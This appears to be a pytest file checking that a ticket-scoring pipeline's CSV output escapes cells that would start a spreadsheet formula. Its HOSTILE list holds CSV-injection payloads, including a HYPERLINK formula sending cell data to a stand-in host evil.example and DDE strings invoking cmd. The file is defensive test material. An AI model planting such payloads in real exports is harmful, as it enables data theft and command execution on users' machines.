"""``transform``'s CSV opened in a spreadsheet: text from the tickets never becomes a formula."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from training_jobs.data.readers import TicketRow
from training_jobs.sagemaker.transform import write_predictions

from jira_priority.postprocessing import post_process

#: OWASP's list: a cell starting with one of these is a formula to Excel, LibreOffice, Sheets.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def written(tmp_path: Path, ticket: TicketRow) -> dict[str, str]:
    output = tmp_path / "scored.csv"
    answer = post_process([("__label__4", 0.61), ("__label__3", 0.39)], 2, None)
    write_predictions(output, [ticket], [answer])
    with output.open(encoding="utf-8", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    return row


@pytest.mark.parametrize("text", HOSTILE, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_a_ticket_cell_that_would_start_a_formula_is_written_as_text(
    tmp_path: Path, text: str
) -> None:
    ticket = TicketRow(title=text, description="d", priority=text, key=text, row=7)

    row = written(tmp_path, ticket)

    assert (row["title"], row["priority"], row["key"]) == ("'" + text,) * 3


def test_numbers_the_command_writes_and_harmless_text_are_left_alone(tmp_path: Path) -> None:
    ticket = TicketRow(title="NPE in HDFS - again", description="d", priority="Major", key="H-1")

    row = written(tmp_path, ticket)

    assert row["title"] == "NPE in HDFS - again"
    assert (row["row"], row["probability"], row["predicted_priority"]) == ("0", "0.6100", "Major")
